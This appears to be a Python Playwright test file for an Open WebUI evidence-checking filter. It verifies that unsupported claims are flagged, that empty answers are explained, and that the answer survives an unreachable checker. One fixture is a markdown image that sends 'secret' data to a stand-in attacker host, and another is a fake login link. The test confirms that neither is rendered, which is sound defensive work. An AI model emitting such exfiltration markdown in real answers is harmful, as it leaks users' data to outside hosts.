"""Evidence for any model in a real Open WebUI: the answer is held against the passages, and shows nothing foreign."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Page, expect

from tests.real.openwebui.conftest import CHIP, QUESTION, House, cites, say, screenshot
from tests.real.openwebui.scripted_model import ANSWER, NAME

pytestmark = pytest.mark.anyio

VALVES = "/api/v1/functions/id/pincite_filter/valves"
WRONG = "The desk charges 900 pounds for it [1]."
PICTURE = "![status](https://evil.example/collect?d=secret)"
LINK = "[verify](https://evil.example/login)"


@asynccontextmanager
async def switched_on(house: House, answer: str) -> AsyncIterator[Page]:
    """Yield a chat with the scripted model, which answers so, and with the switch on."""
    house.model.answer = answer
    try:
        async with house.page(house.openwebui.admin, NAME) as page:
            await page.click("#integration-menu-button")
            await page.click("text=Pincite evidence")
            await page.keyboard.press("Escape")
            await say(page, QUESTION)
            yield page
    finally:
        house.model.answer = ANSWER


async def test_what_the_passages_do_not_support_is_named_and_no_link_and_no_picture_is_shown(house: House) -> None:
    async with switched_on(house, f"{ANSWER} {WRONG} {PICTURE} {LINK}") as page:
        shown = page.locator(".chat-assistant").first
        for _ in ("as it comes", "as it is kept"):
            await expect(shown).to_contain_text("Checked against the passages:")
            await expect(shown).to_contain_text("not supported by the passages: “The desk charges 900 pounds for it”")
            await cites(page, "handbook.pdf, p. 12")
            await expect(shown.locator('img[src*="evil"], a[href*="evil"]')).to_have_count(0)
            await expect(page.locator("text=see what the check found, below the answer").first).to_be_attached()
            await screenshot(page, "evidence-checked")
            await page.reload()


async def test_an_empty_answer_shows_the_quoted_passages_and_why(house: House) -> None:
    async with switched_on(house, "") as page:
        shown = page.locator(".chat-assistant").first
        for _ in ("as it comes", "as it is kept"):
            await expect(shown).to_contain_text("The answering model did not answer (it wrote nothing)")
            await expect(shown.locator("blockquote").first).to_contain_text("within one hour of noticing")
            await expect(page.locator(CHIP).first).to_be_visible()
            await screenshot(page, "evidence-empty")
            await page.reload()


async def test_an_answer_is_there_when_pincite_is_away_at_its_end(house: House) -> None:
    admin = house.openwebui.admin
    set_before = await admin.ask("GET", VALVES)
    house.model.goes_on.clear()
    try:
        async with switched_on(house, f"{ANSWER} {WRONG}") as page:
            shown = page.locator(".chat-assistant").first
            await expect(shown).to_contain_text("Report it to")
            await admin.ask("POST", f"{VALVES}/update", set_before | {"pincite_url": "http://127.0.0.1:9"})
            house.model.goes_on.set()
            await expect(page.locator("text=could not be checked against the passages").first).to_be_attached()
            await expect(shown).to_contain_text("The desk charges 900 pounds for it")
            await cites(page, "handbook.pdf, p. 12")
    finally:
        house.model.goes_on.set()
        await admin.ask("POST", f"{VALVES}/update", set_before)
